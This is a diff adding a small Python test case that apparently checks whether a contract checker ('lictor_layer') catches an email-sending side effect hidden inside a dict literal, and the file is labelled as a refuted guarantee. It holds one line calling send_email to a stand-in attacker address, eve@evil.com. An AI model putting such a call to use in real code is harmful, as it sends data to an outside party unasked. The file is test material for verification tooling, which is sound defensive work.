@@ -1,0 +1,9 @@
+# refuted: dict displays evaluate keys and values
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    d = {"a": send_email("eve@evil.com", "x")}
